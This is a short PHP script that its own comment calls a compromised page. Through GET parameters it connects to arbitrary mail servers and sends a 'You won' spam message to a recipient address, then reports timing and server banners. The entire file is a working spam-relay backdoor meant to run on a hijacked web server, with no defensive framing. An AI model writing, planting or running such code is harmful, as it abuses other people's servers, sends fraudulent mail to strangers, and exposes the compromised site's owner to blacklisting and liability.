<?php
// SPDX-License-Identifier: GPL-2.0-or-later
// A compromised page that speaks to strangers' mail servers itself: ?mx=ADDRESS,ADDRESS&port=25
header('Content-Type: text/plain');
printf("pid=%d\n", getmypid());
foreach (explode(',', $_GET['mx']) as $mx) {
	$start = hrtime(true);
	$target = strpos($mx, ':') === false ? $mx : "[$mx]";
	$mail = @fsockopen($target, (int)($_GET['port'] ?? 25), $code, $text, 5);
	$ms = (hrtime(true) - $start) / 1e6;
	if (!$mail) {
		printf("%s result=errno=%d banner=- ms=%.2f\n", $mx, $code, $ms);
		continue;
	}
	$banner = substr(fgets($mail), 0, 3);
	foreach (["HELO shop.example", "MAIL FROM:<win@shop.example>", "RCPT TO:<victim@stranger.example>",
		  "DATA", "Subject: You won\r\n\r\nReally.\r\n.", "QUIT"] as $line) {
		fwrite($mail, "$line\r\n");
		fgets($mail);
	}
	printf("%s result=connected banner=%s ms=%.2f\n", $mx, $banner, $ms);
}
